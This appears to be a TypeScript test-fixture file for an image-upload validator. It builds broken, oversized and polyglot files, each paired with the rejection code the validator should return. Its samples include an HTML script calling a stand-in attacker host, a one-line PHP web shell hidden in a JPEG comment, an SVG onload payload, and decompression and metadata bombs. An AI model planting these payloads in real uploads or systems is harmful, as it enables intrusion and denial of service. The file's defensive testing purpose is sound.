/** Files that people and attackers send where a picture is asked for, each with what must be said of it. */
import {readFileSync} from 'node:fs';
import {crc32, deflateSync, gzipSync} from 'node:zlib';
import sharp from 'sharp';
import type {ImageErrorCode} from '../../../src/verification/image/image-error.ts';
import {pdfOf} from './pdf-of.ts';

export interface BadFile {
  /** What its sender calls it. */
  name: string;
  bytes: Uint8Array;
  /** Why it is refused. */
  expected: ImageErrorCode;
}

export async function badFiles(): Promise<BadFile[]> {
  const photo = readFileSync(new URL('../../data/documents/synth/006_TD1_easy.jpg', import.meta.url));
  const small = await sharp(photo).resize({width: 400}).jpeg().toBuffer();
  return [...(await brokenFiles(photo, small)), ...(await oddPictures(small)), ...gluedPictures(small)];
}

/** Nothing of them is a picture that could be looked at, or they cost too much to look at. */
async function brokenFiles(photo: Buffer, small: Buffer): Promise<BadFile[]> {
  const png = await sharp(small).png().toBuffer();
  return [
    {name: 'nothing.jpg', bytes: new Uint8Array(), expected: 'file_empty'},
    {name: 'truncated.jpg', bytes: photo.subarray(0, photo.length >> 1), expected: 'file_truncated'},
    {name: 'truncated.png', bytes: png.subarray(0, png.length >> 1), expected: 'file_truncated'},
    {name: 'one-byte-short-of-a-header.jpg', bytes: photo.subarray(0, 100), expected: 'file_truncated'},
    {name: 'truncated.pdf', bytes: pdfOf(['x']).subarray(0, 60), expected: 'file_truncated'},
    {name: 'truncated.heic', bytes: heic().subarray(0, 400), expected: 'file_truncated'},
    {name: '100-megapixels.png', bytes: pngHeader(10_000, 10_000, noise(800_000)), expected: 'file_too_many_pixels'},
    {name: 'bomb.png', bytes: pngHeader(60_000, 60_000), expected: 'file_bomb'},
    {name: 'lying-header.png', bytes: pngHeader(4000, 4000), expected: 'file_damaged'},
    {name: 'inflating.png', bytes: textBomb(), expected: 'file_metadata_bomb'},
    {
      name: 'beyond-20-mb.jpg',
      bytes: Buffer.concat([small, Buffer.alloc(20 * 1024 * 1024)]),
      expected: 'file_too_large',
    },
    {name: 'drawing.svg', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), expected: 'file_svg'},
    {name: 'page.jpg', bytes: Buffer.from(html), expected: 'file_html'},
    {name: 'animation.gif', bytes: await sharp(small).gif().toBuffer(), expected: 'file_gif'},
    {name: 'program.png', bytes: Buffer.concat([Buffer.from('MZ'), noise(4000)]), expected: 'file_program'},
    {name: 'archive.pdf', bytes: Buffer.concat([Buffer.from('PK\x03\x04'), noise(4000)]), expected: 'file_archive'},
    {name: 'words.jpg', bytes: Buffer.from('My passport, in words'), expected: 'file_unsupported'},
    {name: 'noise.jpg', bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), noise(4000)]), expected: 'file_damaged'},
    {
      name: 'fifty-pages.pdf',
      bytes: pdfOf(Array.from({length: 50}, (_, i) => `Page ${i}`)),
      expected: 'file_too_many_pages',
    },
    {name: 'encrypted.pdf', bytes: encryptedPdf(), expected: 'file_encrypted'},
    {name: 'no-pages.pdf', bytes: pdfOf([]), expected: 'file_damaged'},
    {name: 'broken.heic', bytes: Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), expected: 'file_damaged'},
    {name: 'broken.tiff', bytes: Buffer.from('II*\0\x08\0\0\0', 'latin1'), expected: 'file_damaged'},
  ];
}

/** Sound pictures, in a form or under a name that leaves open what a person would see. */
async function oddPictures(small: Buffer): Promise<BadFile[]> {
  const cmyk = sharp(small).toColourspace('cmyk');
  const deep = sharp(small).toColourspace('rgb16');
  return [
    {name: 'picture.pdf', bytes: small, expected: 'file_wrong_extension'},
    {name: 'paper.jpg', bytes: pdfOf(['bill']), expected: 'file_wrong_extension'},
    {name: 'picture.jpg.exe', bytes: small, expected: 'file_wrong_extension'},
    {name: 'four-inks.jpg', bytes: await cmyk.clone().jpeg().toBuffer(), expected: 'file_cmyk'},
    {name: 'four-inks.tif', bytes: await cmyk.clone().tiff().toBuffer(), expected: 'file_cmyk'},
    {name: 'sixteen-bit.png', bytes: await deep.clone().png().toBuffer(), expected: 'file_deep_color'},
    {
      name: 'sixteen-bit.tif',
      bytes: await deep.clone().tiff({compression: 'lzw'}).toBuffer(),
      expected: 'file_deep_color',
    },
    {name: 'animation.webp', bytes: await movingWebp(), expected: 'file_animated'},
    {name: 'animation.png', bytes: movingPng(await sharp(small).png().toBuffer()), expected: 'file_animated'},
    {name: 'endless-metadata.jpg', bytes: withExif(small, exifLoop()), expected: 'file_metadata_bomb'},
    {name: 'huge-metadata.jpg', bytes: withExif(small, hugeExif()), expected: 'file_metadata_bomb'},
    {
      name: 'multiplying-metadata.jpg',
      bytes: withSegment(small, 0xe1, '<!DOCTYPE x [<!ENTITY a "&b;&b;">]>'),
      expected: 'file_metadata_bomb',
    },
  ];
}

/** Pictures that are something else to another reader. */
function gluedPictures(small: Buffer): BadFile[] {
  const after = (...more: Uint8Array[]) => Buffer.concat([small, ...more]);
  const glued: [name: string, bytes: Buffer][] = [
    ['picture-and-page.jpg', after(Buffer.from(html))],
    ['picture-and-page-afar.jpg', after(Buffer.alloc(5000), noise(3000), Buffer.from(html))],
    ['picture-and-archive.jpg', after(Buffer.from('PK\x03\x04'), noise(4000))],
    ['picture-and-archive-afar.jpg', after(noise(3000), zipOf('run.js', 'alert(1)'))],
    ['picture-and-gzip.jpg', after(gzipSync('secret'))],
    ['picture-and-rar.jpg', after(noise(3000), Buffer.from('Rar!\x1a\x07\x01\0'))],
    ['picture-and-pdf.jpg', after(pdfOf(['hidden']))],
    ['picture-and-program.jpg', after(Buffer.from('\x7fELF\x02\x01'), noise(4000))],
    ['picture-and-second-picture-and-page.jpg', after(small, Buffer.from(html))],
    ['page-in-comment.jpg', withSegment(small, 0xfe, html)],
    ['script-in-comment.jpg', withSegment(small, 0xfe, '<?php system($_GET["c"]);')],
    ['pdf-in-comment.jpg', withSegment(small, 0xfe, pdfOf(['hidden']).toString('latin1'))],
    ['drawing-in-segment.jpg', withSegment(small, 0xe5, '<svg onload="alert(1)">')],
    ['archive-in-segment.jpg', withSegment(small, 0xe5, zipOf('run.js', 'alert(1)').toString('latin1'))],
  ];
  return [
    ...glued.map(([name, bytes]): BadFile => ({name, bytes, expected: 'file_polyglot'})),
    {name: 'page-in-text.png', bytes: withText(html), expected: 'file_polyglot'},
    {
      name: 'archive-and-paper.pdf',
      bytes: Buffer.concat([Buffer.from('PK\x03\x04'), noise(200), pdfOf(['bill'])]),
      expected: 'file_polyglot',
    },
    {
      name: 'paper-and-archive.pdf',
      bytes: Buffer.concat([pdfOf(['bill']), zipOf('a', 'b')]),
      expected: 'file_polyglot',
    },
  ];
}

const html = '<!doctype html><html><script>fetch("https://attacker.example")</script></html>';

/** The same bytes at each run, and no mark among them. */
export function noise(length: number): Buffer {
  return Buffer.from(Array.from({length}, (_, i) => (Math.imul(i, 2654435761) >>> 13) & 255));
}

export function heic(): Buffer {
  return readFileSync(new URL('../../data/images/two-colours.heic', import.meta.url));
}

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const sizes = Buffer.alloc(8);
  sizes.writeUInt32BE(data.length, 0);
  sizes.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([sizes.subarray(0, 4), body, sizes.subarray(4)]);
}

const magic = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

/** A well-formed PNG head that promises `width` x `height` RGB pixels and delivers a few zeros, or what is given. */
export function pngHeader(width: number, height: number, data: Buffer = deflateSync(Buffer.alloc(100))): Buffer {
  return Buffer.concat([
    magic,
    chunk('IHDR', header(width, height)),
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function header(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return head;
}

/** A sound picture beside text that inflates to a hundred megabytes: whoever unpacks it is lost. */
function textBomb(): Buffer {
  const zeros = deflateSync(Buffer.alloc(100 * 1024 * 1024), {level: 9});
  return pngWith(chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), zeros])));
}

export function withText(text: string): Buffer {
  return pngWith(chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')));
}

/** Eight by eight grey pixels, and before them what is given. */
function pngWith(more: Buffer): Buffer {
  const rows = Buffer.alloc(8 * (1 + 8 * 3), 90);
  for (let y = 0; y < 8; y++) rows[y * 25] = 0;
  return Buffer.concat([
    magic,
    chunk('IHDR', header(8, 8)),
    more,
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Two frames that differ; of two that do not the encoder makes one. */
function movingWebp(): Promise<Buffer> {
  const pixels = Buffer.alloc(40 * 80 * 3, 120);
  pixels.fill(20, 40 * 40 * 3);
  return sharp(pixels, {raw: {width: 40, height: 80, channels: 3, pageHeight: 40}})
    .webp()
    .toBuffer();
}

/** The still picture, and the word that three follow. */
function movingPng(png: Buffer): Buffer {
  const control = Buffer.alloc(8);
  control.writeUInt32BE(3, 0);
  const afterHeader = magic.length + 25;
  return Buffer.concat([png.subarray(0, afterHeader), chunk('acTL', control), png.subarray(afterHeader)]);
}

/** One stored file (APPNOTE 4.3). */
export function zipOf(name: string, text: string): Buffer {
  const [file, data] = [Buffer.from(name), Buffer.from(text)];
  const about = Buffer.alloc(26);
  about.writeUInt16LE(20, 0);
  about.writeUInt32LE(crc32(data), 10);
  about.writeUInt32LE(data.length, 14);
  about.writeUInt32LE(data.length, 18);
  about.writeUInt16LE(file.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), about, file, data]);
  const entry = Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), about, Buffer.alloc(14), file]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(entry.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, entry, end]);
}

/** The standard security handler with a password that nobody gave (ISO 32000-1, 7.6.3). */
function encryptedPdf(): Buffer {
  const text = pdfOf(['secret']).toString('latin1');
  const key = '<'.concat('00'.repeat(32), '>');
  const encrypt = `/Encrypt << /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -4 >> /ID [<00><00>]`;
  return Buffer.from(text.replace('trailer\n<<', `trailer\n<< ${encrypt}`), 'latin1');
}

/** An APP1 segment before everything else. */
export function withExif(jpeg: Buffer, tiff: Buffer): Buffer {
  return withSegment(jpeg, 0xe1, `Exif\0\0${tiff.toString('latin1')}`);
}

/** One of `mark` before everything else; `text` has a byte for each letter. */
export function withSegment(jpeg: Buffer, mark: number, text: string): Buffer {
  const size = Buffer.alloc(2);
  size.writeUInt16BE(text.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, mark]),
    size,
    Buffer.from(text, 'latin1'),
    jpeg.subarray(2),
  ]);
}

/** A directory whose next one is itself. */
function exifLoop(): Buffer {
  const tiff = Buffer.alloc(32);
  tiff.write('II*\0\x08\0\0\0', 0, 'latin1');
  tiff.writeUInt16LE(1, 8);
  // Orientation, one SHORT, upright
  tiff.set([0x12, 0x01, 3, 0, 1, 0, 0, 0, 1, 0, 0, 0], 10);
  tiff.writeUInt32LE(8, 22);
  return tiff;
}

/** A tag that claims four thousand million values. */
function hugeExif(): Buffer {
  const tiff = Buffer.alloc(32);
  tiff.write('II*\0\x08\0\0\0', 0, 'latin1');
  tiff.writeUInt16LE(1, 8);
  // Software, ASCII
  tiff.set([0x31, 0x01, 2, 0, 0xff, 0xff, 0xff, 0xff, 26, 0, 0, 0], 10);
  return tiff;
}
